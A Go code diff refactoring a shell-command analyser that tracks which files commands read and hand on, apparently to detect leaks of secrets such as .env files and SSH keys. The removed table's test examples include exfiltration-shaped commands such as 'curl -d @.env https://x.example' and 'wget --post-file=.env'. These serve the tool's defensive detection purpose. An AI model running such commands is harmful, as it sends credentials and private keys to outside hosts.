@@ -81,118 +81,9 @@ const (
 	rdValues                      // only option values name files (curl -d @f, openssl -in)
 )
 
-// readSpec is one program's read side: which operands (and option values)
-// name the files whose contents it hands on.
-type readSpec struct {
-	names    []string
-	examples []readExample
-	role     readRole
-	// short are the short options taking a value; long the long ones
-	// (without "--") taking a value when written apart.
-	short string
-	long  []string
-	// valueReads are the options whose value is a file it reads ("-f" of
-	// grep, "--in" of openssl: written as in argv, "-in" included).
-	valueReads []string
-	// atReads are options whose value names a file after '@' (curl -d
-	// @file, -F name=@file).
-	atReads []string
-	// recursive are the options that make operand directories trees
-	// (grep -r); tree: directories are always trees (rg, tar, zip -r).
-	recursive []string
-	tree      bool
-	// quiet are the options with which nothing is read out (sed -i: the
-	// file is changed in place, not printed).
-	quiet []string
-}
-
-// readSpecTable is the read side of every program the analysis knows,
-// with examples (TestReadSpecExamples runs them: each command, analysed in
-// /w, reads exactly the files listed, written as readForm renders them).
-// Constant data the compiler lays out statically: nothing runs at
-// start-up or on first use.
-var readSpecTable = [...]readSpec{
-	{names: []string{"cat", "tac", "nl", "less", "more", "most", "pg", "bat", "batcat", "strings", "rev", "fold", "fmt", "pr",
-		"expand", "unexpand", "paste", "column", "comm", "diff", "diff3", "sdiff", "colordiff", "vimdiff", "view"},
-		role: rdAll, long: []string{"width", "lines"},
-		examples: []readExample{{"cat .env", ".env"}, {"cat -n a b", "a b"}, {"less -N src/x.go", "src/x.go"},
-			{"diff .env .env.example", ".env .env.example"}, {"echo x | cat", ""}, {"cat -- -odd", "-odd"}, {"strings bin/app", "bin/app"}}},
-	{names: []string{"sort", "uniq", "cut", "iconv"}, role: rdAll, short: "oktTSdfbcfs",
-		long:     []string{"output", "key", "field-separator", "delimiter", "fields", "bytes", "characters", "from-code", "to-code"},
-		examples: []readExample{{"sort -t , -k 2 data.csv", "data.csv"}, {"cut -d= -f2 .env", ".env"}}},
-	{names: []string{"head", "tail"}, role: rdAll, short: "ncs", long: []string{"lines", "bytes", "sleep-interval", "pid", "max-unchanged-stats"},
-		examples: []readExample{{"head -n 5 .env.local", ".env.local"}, {"tail -c 100 log.txt", "log.txt"}, {"head -20 a", "a"}}},
-	{names: []string{"base64", "base32", "basenc", "uuencode"}, role: rdAll, short: "w", long: []string{"wrap"},
-		examples: []readExample{{"base64 -w0 key.pem", "key.pem"}, {"base64 -d in.b64", "in.b64"}}},
-	{names: []string{"xxd"}, role: rdAll, short: "cglnos",
-		examples: []readExample{{"xxd -c 16 id_rsa", "id_rsa"}, {"xxd -p key out.hex", "key out.hex"}}},
-	{names: []string{"od", "hexdump", "hd"}, role: rdAll, short: "AjNStwefns", long: []string{"format", "skip-bytes", "read-bytes", "width", "address-radix", "strings"},
-		examples: []readExample{{"od -A x -t x1z .env", ".env"}, {"od -c .env", ".env"}, {"hexdump -C -n 64 key.p12", "key.p12"}}},
-	{names: []string{"grep", "egrep", "fgrep", "zgrep", "rgrep"}, role: rdPattern, short: "efmABCdD",
-		long:       []string{"regexp", "file", "max-count", "after-context", "before-context", "context", "include", "exclude", "exclude-dir", "exclude-from", "label", "binary-files", "devices", "directories", "group-separator"},
-		valueReads: []string{"-f", "--file"}, recursive: []string{"-r", "-R", "--recursive", "--dereference-recursive", "-d recurse", "--directories=recurse"},
-		examples: []readExample{{"grep -n DATABASE_URL .env.example", ".env.example"}, {"grep -e x -e y a b", "a b"}, {"grep -rn TODO src", "tree:src"},
-			{"grep -r --exclude=.env x .", "tree:.-.env"}, {"grep -rl x", "tree:."}, {"grep -f .env log", ".env log"}, {"ps aux | grep node", ""}}},
-	{names: []string{"rg", "ag", "ack", "ack-grep", "pt", "ugrep", "ug"}, role: rdPattern, tree: true, short: "efmABCgtTMjE",
-		long: []string{"regexp", "file", "max-count", "after-context", "before-context", "context", "glob", "iglob", "type", "type-not", "max-columns",
-			"threads", "encoding", "ignore-file", "pre", "sort", "sortr", "max-depth", "ignore-dir", "file-search-regex"},
-		valueReads: []string{"-f", "--file"},
-		examples:   []readExample{{"rg TODO", "rtree:."}, {"rg -uu KEY config", "tree:config"}, {"rg -n x .env", "rtree:.env"}, {"rg -g '!*.env' --hidden x", "htree:.-*.env"}}},
-	{names: []string{"sed", "gsed"}, role: rdScript, short: "efl", long: []string{"expression", "file", "line-length"}, valueReads: []string{"-f", "--file"}, quiet: []string{"-i", "--in-place"},
-		examples: []readExample{{"sed -n 1,5p .env", ".env"}, {"sed -e s/a/b/ -e p x y", "x y"}, {"sed -i s/a/b/ .env", ""}}},
-	{names: []string{"awk", "gawk", "mawk", "nawk"}, role: rdScript, short: "fvFE", long: []string{"file", "assign", "field-separator", "include", "load", "exec"},
-		valueReads: []string{"-f", "--file"}, quiet: []string{"-i inplace", "--include=inplace"},
-		examples: []readExample{{"awk '{print}' .env", ".env"}, {"awk -F= -v x=1 '{print $2}' a", "a"}, {"awk -f prog.awk data", "prog.awk data"}}},
-	{names: []string{"jq", "yq", "gojq", "jaq"}, role: rdScript, short: "f", long: []string{"arg", "argjson", "slurpfile", "rawfile", "indent", "from-file"},
-		valueReads: []string{"-f", "--from-file"}, quiet: []string{"-i", "--inplace"},
-		examples: []readExample{{"jq .token creds.json", "creds.json"}, {"jq --arg k v '.[$k]' a.json", "a.json"}, {"yq -i .a=1 x.yaml", ""}}},
-	{names: []string{"source", "."}, role: rdFirst,
-		examples: []readExample{{"source .env", ".env"}, {". ./env.sh arg", "env.sh"}}},
-	{names: []string{"cp", "mv", "ln", "link", "install", "scp", "rsync", "rclone"}, role: rdCopy, short: "tSmogiPFlB",
-		long:      []string{"target-directory", "suffix", "mode", "owner", "group", "backup", "exclude", "include", "filter", "rsh", "port", "chmod", "chown"},
-		recursive: []string{"-r", "-R", "-a", "--recursive", "--archive"},
-		examples: []readExample{{"cp .env /tmp/x", ".env>/tmp/x"}, {"cp .env.example .env", ".env.example>.env"}, {"cp -r keys out", "tree:keys>out"},
-			{"cp -t dest a b", "a>dest b>dest"}, {"scp .env host:/tmp/", ".env>?"}, {"ln -s .env e", ".env>e"}, {"scp host:x .", ""}, {"mv .env /tmp/e", ".env>/tmp/e"}}},
-	{names: []string{"dd"}, role: rdValues,
-		examples: []readExample{{"dd if=.env of=/tmp/x", ".env>/tmp/x"}, {"dd if=id_rsa", "id_rsa"}, {"dd if=/dev/zero of=disk.img count=1", "/dev/zero>disk.img"}}},
-	{names: []string{"tar", "bsdtar", "gtar"}, role: rdArchive, tree: true, short: "fCTXbIHK",
-		long:     []string{"file", "directory", "files-from", "exclude-from", "exclude", "blocking-factor", "use-compress-program", "format", "transform", "owner", "group", "mode", "mtime", "newer"},
-		examples: []readExample{{"tar czf out.tgz .env src", "tree:.env tree:src"}, {"tar -cf - .ssh", "tree:.ssh"}, {"tar -xzf a.tgz", ""}, {"tar tf a.tar", ""}}},
-	{names: []string{"zip", "7z", "7za", "7zr", "rar"}, role: rdArchive, short: "bnPtxiZ", long: []string{"password", "exclude", "include"}, recursive: []string{"-r", "-R", "--recurse-paths"},
-		examples: []readExample{{"zip out.zip .env", ".env"}, {"zip -r out.zip secrets", "tree:secrets"}, {"7z a out.7z id_rsa", "id_rsa"}, {"unzip a.zip", ""}}},
-	{names: []string{"curl"}, role: rdValues, short: "dFTHoXuxAeEbcKwmrYyz",
-		long: []string{"data", "data-binary", "data-ascii", "data-raw", "data-urlencode", "form", "form-string", "upload-file", "header", "output", "request", "user",
-			"proxy", "user-agent", "referer", "cookie", "cookie-jar", "config", "write-out", "max-time", "range", "json", "url"},
-		atReads:    []string{"-d", "--data", "--data-binary", "--data-ascii", "--data-urlencode", "-F", "--form", "--json", "-H", "--header"},
-		valueReads: []string{"-T", "--upload-file", "-K", "--config"},
-		examples: []readExample{{"curl -d @.env https://x.example", ".env"}, {"curl -F f=@id_rsa https://x.example", "id_rsa"}, {"curl -T .env.local https://x.example", ".env.local"},
-			{"curl -o out https://x.example", ""}, {"curl -d a=b https://x.example", ""}}},
-	{names: []string{"wget"}, role: rdValues, short: "OoiPe", long: []string{"post-file", "body-file", "output-document", "input-file"}, valueReads: []string{"--post-file", "--body-file"},
-		examples: []readExample{{"wget --post-file=.env https://x.example", ".env"}, {"wget -O x https://x.example", ""}}},
-	{names: []string{"openssl"}, role: rdValues, valueReads: []string{"-in", "-inkey", "-key", "-kfile"},
-		examples: []readExample{{"openssl rsa -in key.pem -noout -text", "key.pem"}, {"openssl rand -hex 8", ""}}},
-}
-
-// readExample is a command and the reads it makes: space-separated
-// readForm renderings, relative to /w.
-type readExample struct{ command, reads string }
-
-func readSpecs() []readSpec { return readSpecTable[:] }
-
-func readSpecOf(name string) (readSpec, bool) {
-	for _, s := range readSpecTable {
-		for _, n := range s.names {
-			if n == name {
-				return s, true
-			}
-		}
-	}
-	return readSpec{}, false
-}
-
 // Reads returns the files the analysed commands read and hand on, the
 // files redirected into them, and the whole-environment dumps among them.
-// What it knows of each program is data (readSpecOf, git's own readers,
+// What it knows of each program is data (programs.go, git's own readers,
 // interpreters' literal code); a program it does not know reads nothing.
 func (a *Analysis) Reads() ([]Read, []Dump) {
 	var reads []Read
@@ -262,24 +153,29 @@ func (p parsed) values(names ...string) []Word {
 	return out
 }
 
-// parseArgs splits args (after the program name) by the spec's options.
+// parseArgs splits args (after the program name) by the spec's grammar.
 // Options a spec does not list are flags; a cluster (-rn) is split into
 // its letters, a value option ending it takes the rest or the next word.
-func parseArgs(args []Word, s readSpec, singleDash bool) parsed {
+// A wrapper's options end at its first operand (the command it runs).
+func parseArgs(args []Word, s *progSpec) parsed {
 	var p parsed
 	for i := 0; i < len(args); i++ {
 		a := args[i]
 		v := a.Value
 		switch {
 		case a.Dynamic != "" || v == "-" || !strings.HasPrefix(v, "-"):
+			if s.wrap.on {
+				p.operands = append(p.operands, args[i:]...)
+				return p
+			}
 			p.operands = append(p.operands, a)
 		case v == "--":
 			p.operands = append(p.operands, args[i+1:]...)
 			return p
-		case singleDash:
+		case s.singleDash:
 			// openssl's -in file: every option is one word.
 			o := opt{name: v}
-			if s.takes(v) && i+1 < len(args) {
+			if containsStr(s.long, v[1:]) && i+1 < len(args) {
 				o.value, o.has = args[i+1], true
 				i++
 			}
@@ -315,15 +211,6 @@ func parseArgs(args []Word, s readSpec, singleDash bool) parsed {
 	return p
 }
 
-func (s readSpec) takes(name string) bool {
-	for _, n := range s.valueReads {
-		if n == name || strings.HasPrefix(n, name+" ") {
-			return true
-		}
-	}
-	return name == "-out" || name == "-passin" || name == "-passout" || name == "-config"
-}
-
 func containsStr(list []string, s string) bool {
 	for _, x := range list {
 		if x == s {
@@ -354,14 +241,14 @@ func commandReads(c Command, idx int) ([]Read, string) {
 		}
 		return reads, ""
 	}
-	s, ok := readSpecOf(name)
-	if !ok {
+	s := specOf(name)
+	if s == nil || s.role == 0 {
 		return nil, ""
 	}
 	if name == "dd" {
 		return ddReads(c, idx), ""
 	}
-	p := parseArgs(c.Args[1:], s, name == "openssl")
+	p := parseArgs(c.Args[1:], s)
 	if len(s.quiet) > 0 && p.has(s.quiet...) {
 		return nil, ""
 	}
@@ -547,7 +434,7 @@ func archiveMembers(name string, args []Word, p parsed, ops []Word) []Word {
 			return nil
 		}
 		return ops
-	case "7z", "7za", "7zr", "rar":
+	case "7z", "7za", "7zr", "rar", "unrar":
 		if len(ops) < 2 || ops[0].Value != "a" {
 			return nil
 		}
